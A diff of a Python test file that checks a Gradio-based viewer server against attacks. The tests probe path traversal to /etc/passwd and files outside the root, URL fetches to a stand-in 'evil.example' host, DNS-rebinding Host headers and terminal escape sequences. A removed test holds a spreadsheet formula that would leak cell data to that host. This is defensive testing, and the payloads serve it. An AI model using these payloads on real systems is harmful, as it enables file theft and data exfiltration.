@@ -1,12 +1,10 @@
-"""The viewer's server: it answers its own page under its own names, and serves no other file."""
+"""The viewer's server: it only answers its own page under its own names, and serves no files."""
 
 import http.client
 import io
 import itertools
 import json
 import os
-import random
-import re
 import socket
 import threading
 import time
@@ -25,15 +23,14 @@ from starlette.testclient import TestClient
 
 from app import page
 from app.catalog import Catalog
-from app.guard import MAX_BODY_BYTES, MAX_LINE_LENGTH, MAX_TEXT_LENGTH, ShortLines, guarded
-from app.votes import VoteStore
+from app.guard import MAX_BODY_BYTES, MAX_LINE_LENGTH, MAX_TEXT_LENGTH, ShortLines, add_guards
 from tests.app.folders import make_run, make_scores
 from tests.app.visitor import LOCAL, Visitor
 
 EVIL = "http://evil.example"
 SECRET = "nobody may read this"
 JOIN = "/gradio_api/queue/join"
-# A server that reads an endless file does not answer at all; a busy machine takes a while.
+# A server that reads an endless file never answers; a busy machine may take some seconds.
 PATIENCE_SECONDS = 15
 # Ports of the servers of this process
 OWN_PORTS: set[int] = set()
@@ -41,13 +38,13 @@ OWN_PORTS: set[int] = set()
 
 @dataclass(frozen=True)
 class Served(Visitor):
-    """A viewer in this process: its port and root, and whom the process tried to reach."""
+    """A viewer in this process: its port, its root, and the addresses it tried to connect to."""
 
     root: Path
     calls: list[Any]
 
     def files(self) -> list[str]:
-        """What nobody may read: outside of the root, by a link in it, a pipe and a device."""
+        """Paths that nobody may read: outside of the root, through a link, a pipe and a device."""
         outside = self.root.parent
         names = ("secret.txt", "own.txt", "root/link/secret.txt", "root/../secret.txt", "pipe")
         return [*(f"{outside}/{name}" for name in names), "/dev/zero"]
@@ -55,7 +52,7 @@ class Served(Visitor):
 
 @pytest.fixture(scope="module")
 def root(tmp_path_factory):
-    """A root with a run and scores, beside it what nobody may read."""
+    """A root with a run and scores, next to files that nobody may read."""
     root = tmp_path_factory.mktemp("served") / "root"
     make_run(root / "lora")
     make_scores(root / "scores")
@@ -70,7 +67,7 @@ def root(tmp_path_factory):
 
 @contextmanager
 def serving(server: uvicorn.Server, root: Path) -> Iterator[Served]:
-    """Run a server in a thread; calls of other machines are written down and refused."""
+    """Run a server in a thread; its connections to other machines are recorded and refused."""
     listener = socket.create_server((LOCAL, 0))
     port = listener.getsockname()[1]
     OWN_PORTS.add(port)
@@ -97,7 +94,7 @@ def serving(server: uvicorn.Server, root: Path) -> Iterator[Served]:
 @pytest.fixture(scope="module")
 def served(root):
     """The viewer."""
-    server = page.server(Catalog(root), host=LOCAL, public=False, device=None)
+    server = page.build_server(Catalog(root), host=LOCAL, public=False, device=None)
     with serving(server, root) as served:
         yield served
 
@@ -105,13 +102,13 @@ def served(root):
 @pytest.fixture(scope="module")
 def unguarded(root):
     """The viewer without its guard."""
-    app = page.application(page.build(Catalog(root)))
+    app = page.build_app(page.build(Catalog(root)))
     config = uvicorn.Config(app, log_level="critical", timeout_graceful_shutdown=1)
     with serving(page.Server(config), root) as served:
         yield served
 
 
-def test_it_serves_no_file_tells_no_place_and_asks_nobody(served):
+def test_the_viewer_serves_no_file_reveals_no_path_and_connects_to_nobody(served):
     root = served.root
     files = ["/etc/passwd", f"{root}/link/secret.txt", f"{root}/lora/run.json", "pyproject.toml"]
     files += [f"{root}/../secret.txt", f"{EVIL}/a.png", f"http://{LOCAL}:9/a.png"]
@@ -132,7 +129,7 @@ def test_it_serves_no_file_tells_no_place_and_asks_nobody(served):
 
 
 def file_objects(path: str) -> list[Any]:
-    """Objects that Gradio takes, took or may take for a file or an address."""
+    """Objects that versions of Gradio take for a file or a URL."""
     meta = {"meta": {"_type": "gradio.FileData"}}
     return [
         {"path": path, **meta},
@@ -143,7 +140,7 @@ def file_objects(path: str) -> list[Any]:
 
 
 def with_file(event: int, values: list[Any], file_object: Any) -> Iterator[Any]:
-    """An event with a file in place of each of its values, and as the data of a click."""
+    """Events with a file instead of one of the values, or as the data of a click."""
     body = {"data": values, "fn_index": event, "trigger_id": 1, "session_hash": "visitor"}
     for position in range(len(values) + 1):
         yield body | {"data": [*values[:position], file_object, *values[position + 1 :]]}
@@ -151,7 +148,7 @@ def with_file(event: int, values: list[Any], file_object: Any) -> Iterator[Any]:
 
 
 def with_file_anywhere(event: int, values: list[Any], file_object: Any) -> Iterator[Any]:
-    """An event with a file in each of its fields, and within lists and objects."""
+    """Events with a file in one of the fields, also inside of lists and objects."""
     for value in ([file_object], [[file_object]], {"value": file_object}):
         yield from with_file(event, values, value)
     body = next(with_file(event, values, None))
@@ -160,13 +157,13 @@ def with_file_anywhere(event: int, values: list[Any], file_object: Any) -> Itera
 
 
 def copies() -> set[Path]:
-    """Copies in Gradio's cache of what nobody may read."""
+    """Copies of files that nobody may read in Gradio's cache."""
     names = ("secret.txt", "own.txt", "pipe", "zero", "passwd")
     return {path for path in Path(get_upload_folder()).rglob("*") if path.name in names}
 
 
 def is_read(pipe: Path) -> bool:
-    """Test that a pipe is open for reading."""
+    """Test whether a pipe is open for reading."""
     try:
         os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
     except OSError:
@@ -174,8 +171,8 @@ def is_read(pipe: Path) -> bool:
     return True
 
 
-@pytest.mark.timeout(60)  # a pipe or a device keeps its reader waiting
-def test_no_event_takes_a_file_or_an_address(served):
+@pytest.mark.timeout(60)  # a pipe or a device blocks the reader
+def test_no_event_takes_a_file_or_a_url(served):
     copies_before = copies()
     paths = [*served.files(), f"http://{LOCAL}:9/a.png", f"{EVIL}/a.png"]
     forms = itertools.cycle(file_objects(served.files()[0]))
@@ -197,9 +194,9 @@ def test_no_event_takes_a_file_or_an_address(served):
     assert not is_read(served.root.parent / "pipe")
 
 
-@pytest.mark.timeout(60)  # a pipe or a device keeps its reader waiting
+@pytest.mark.timeout(60)  # a pipe or a device blocks the reader
 def test_gradio_itself_refuses_files_that_it_has_not_made(unguarded):
-    """Web addresses are the guard's alone: Gradio itself fetches public ones."""
+    """Only the guard refuses URLs: Gradio fetches those of public servers."""
     copies_before = copies()
     paths = itertools.cycle(unguarded.files())
     for event, values in unguarded.events():
@@ -239,40 +236,22 @@ def test_events_that_the_page_does_not_send_are_refused_in_a_sentence(served, bo
     assert sentence in json.load(answer)["detail"]
 
 
-def test_a_vote_is_of_the_voter_who_began(served):
-    def click(name, *values, data=None):
-        event, _ = served.events(name)[-1]
-        return served.send(event, list(values), data)
-
-    event, values = served.events("frame-scores")[-1]
-    served.send(event, values)  # fills the list of scores
-    # The browser sends the name of its session, which may be anything.
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    for token in ("", "made up"):  # of no vote that has begun
-        click("vote-left", token, None, formula)
-    answer = click("vote-start", "scores", "", formula)
-    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', answer)
-    click("vote-left", token, None, data=formula)
-    (vote,) = VoteStore(Catalog(served.root), random.Random()).votes()
-    assert re.fullmatch("[0-9a-f]{16}", vote.session)
-
-
 @pytest.mark.parametrize(
     ("listens_on", "host", "origin", "status"),
     [
-        # Names of this machine; another name may be a stranger's that leads here (DNS rebinding).
+        # Names of this machine. Another name may be that of a web site (DNS rebinding).
         (LOCAL, "LOCALHOST:7860", "http://localhost:7860", 200),
         (LOCAL, "[::1]:7860", None, 200),
         (LOCAL, "evil.example", None, 403),
         (LOCAL, "localhost.evil.example", None, 403),
         (LOCAL, "192.168.0.5:7860", None, 403),
-        # A page of another origin asks.
+        # Requests of a page with another origin
         (LOCAL, "localhost:7860", EVIL, 403),
         (LOCAL, "localhost:7860", "http://localhost:7861", 403),
         (LOCAL, "localhost:7860", "null", 403),
         # By --allow_host
         (LOCAL, "Lab.Example:443", "https://lab.example:443", 200),
-        # Open to the network: the host's own name and addresses
+        # Open to the network: the name of the host and all addresses
         ("0.0.0.0", f"{socket.gethostname()}:7860", None, 200),
         ("0.0.0.0", f"{LOCAL}:7860", "http://1.2.3.4:7860", 403),
         ("0.0.0.0", "192.168.0.5:7860", "http://192.168.0.5:7860", 200),
@@ -280,8 +259,9 @@ def test_a_vote_is_of_the_voter_who_began(served):
         ("0.0.0.0", "evil.example@192.168.0.5", None, 403),
     ],
 )
-def test_other_names_and_web_sites_are_refused(listens_on, host, origin, status):
-    app = guarded(PlainTextResponse("here"), [1], listens_on, listens_on != LOCAL, ["Lab.Example"])
+def test_other_host_names_and_web_sites_are_refused(listens_on, host, origin, status):
+    is_public = listens_on != LOCAL
+    app = add_guards(PlainTextResponse("here"), [1], listens_on, is_public, ["Lab.Example"])
     headers = {"Host": host}
     if origin is not None:
         headers["Origin"] = origin
@@ -296,12 +276,12 @@ def test_other_names_and_web_sites_are_refused(listens_on, host, origin, status)
         assert has_policy == is_closed_to_others == (status == 200)
 
 
-def test_what_fails_after_its_answer_is_one_line_without_what_was_sent(capsys):
+def test_an_error_after_the_response_is_printed_in_one_short_line(capsys):
     async def closed_early(scope, receive, send):
         await PlainTextResponse("here")(scope, receive, send)
         raise RuntimeError("a\033[2J" + "long\n" * 1000)
 
-    client = TestClient(guarded(closed_early, [], LOCAL, public=False))
+    client = TestClient(add_guards(closed_early, [], LOCAL, public=False))
     assert client.get("/config", headers={"Host": "localhost"}).text == "here"
     (line,) = capsys.readouterr().err.splitlines()
     assert "RuntimeError" in line
@@ -309,7 +289,7 @@ def test_what_fails_after_its_answer_is_one_line_without_what_was_sent(capsys):
     assert len(line) < 400
 
 
-def test_what_a_browser_sent_is_short_and_inert_at_the_terminal():
+def test_values_from_a_browser_are_short_and_harmless_in_the_terminal():
     terminal = io.StringIO()
     print("Received:", "\033[2J" + "x" * 10**6, "end", sep="\n", file=ShortLines(terminal))
     first_line, long_line, last_line = terminal.getvalue().splitlines()
@@ -324,7 +304,7 @@ def test_large_and_endless_bodies_are_refused(served):
     assert served.ask(JOIN, "POST", body).status == 200
     body["data"] = [text] * 10
     assert served.ask(JOIN, "POST", body).status == 413
-    # A body in pieces, which does not say its length
+    # A body in pieces, without a header for its length
     connection = http.client.HTTPConnection(LOCAL, served.port, timeout=30)
     pieces = iter([b"x" * 2**14] * 20)
     connection.request("POST", JOIN, pieces, encode_chunked=True)
